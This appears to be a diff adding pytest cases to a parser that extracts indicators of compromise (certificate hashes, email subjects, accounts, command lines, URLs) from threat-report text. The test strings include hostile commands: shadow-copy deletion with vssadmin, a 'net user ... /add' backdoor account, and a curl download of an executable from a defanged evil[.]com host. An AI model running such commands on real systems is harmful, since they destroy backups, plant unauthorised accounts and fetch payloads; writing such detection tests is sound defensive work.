@@ -50,6 +50,73 @@ SEEN = [
 ]
 
 
+LABELLED = [
+    ("Thumbprint (SHA-1): " + "3f2a9c11d0" * 4, "certificate-hash", "3f2a9c11d0" * 4),
+    ("The certificate's SHA-256 fingerprint: " + "3F2A9C11" * 8, "certificate-hash", None),
+    ("cert sha1 = " + "3f2a9c11d0" * 4, "certificate-hash", "3f2a9c11d0" * 4),
+    ("SHA1 Fingerprint=" + ":".join(["3F", "2A"] * 10), "certificate-hash", "3f2a" * 10),
+    ('The subject line was "Overdue invoice 4711".', "email-subject", "Overdue invoice 4711"),
+    ("mails with the subject “Your parcel”", "email-subject", "Your parcel"),
+    ("| Email subject | Overdue invoice 4711 |", "email-subject", "Overdue invoice 4711"),
+    ('They created a hidden local account named "svc_backup$".', "account", "svc_backup$"),
+    ("net user helpdesk Passw0rd /add", "account", "helpdesk"),
+    (
+        "Command line: vssadmin delete shadows /all /quiet",
+        "command-line",
+        "vssadmin delete shadows /all /quiet",
+    ),
+    (
+        '"CommandLine": "rundll32.exe gate.dll,#1"',
+        "command-line",
+        "rundll32.exe gate.dll,#1",
+    ),
+]
+
+
+@pytest.mark.parametrize(("text", "kind", "value"), LABELLED, ids=[one[0][:20] for one in LABELLED])
+def test_what_only_a_label_tells_is_seen_behind_it(text: str, kind: str, value: str | None) -> None:
+    [found] = [one for one in recognise(text) if one.kind == kind]
+    assert value is None or found.value == value
+    assert text[found.start : found.end] == found.raw
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Subject: Guidance on Tidebeacon for all members",  # the report's own head
+        "Subject: CN=gate, O=Northland",
+        "The subject of the talk was the relay.",
+        "CommandLine|contains: 'vssadmin'",
+        "CommandLine: '*vssadmin delete*'",
+        "Command line: not recorded by the sensor",
+        "The new user was told to wait, and created an account for the shop.",
+        "net user helpdesk",
+        "SSH key fingerprint: 3f:2a:3f:2a:3f:2a:3f:2a:3f:2a:3f:2a:3f:2a:3f:2a",
+        "Command line: " + "a " * 50_000,
+        "subject “" * 20_000,
+        "created a " * 20_000,
+        "certificate hash " * 10_000,
+    ],
+    ids=lambda text: text[:20],
+)
+def test_nothing_is_made_of_what_the_label_does_not_say(text: str) -> None:
+    assert recognise(text) == []
+
+
+def test_the_values_in_a_command_line_stay_what_they_are() -> None:
+    text = "Command line: curl -o C:\\ProgramData\\u.exe hxxp://evil[.]com/u.exe"
+    kinds = {one.kind: one.value for one in recognise(text)}
+    assert kinds["url"] == "http://evil.com/u.exe"
+    assert kinds["path"] == r"c:\programdata\u.exe"
+    assert kinds["command-line"].endswith("http://evil.com/u.exe")
+
+
+def test_a_hash_of_a_file_stays_one_beside_a_certificate() -> None:
+    file, cert = "3f2a9c11d0" * 4, "9c113f2ad0" * 4
+    found = recognise(f"Thumbprint {cert}, signed file SHA-1 {file}")
+    assert [(one.kind, one.value) for one in found] == [("certificate-hash", cert), ("sha1", file)]
+
+
 @pytest.mark.parametrize(("raw", "kind", "value", "notes"), SEEN, ids=[one[0][:20] for one in SEEN])
 def test_a_value_is_seen_in_a_sentence_with_its_place(
     raw: str, kind: str, value: str | None, notes: tuple[str, ...]
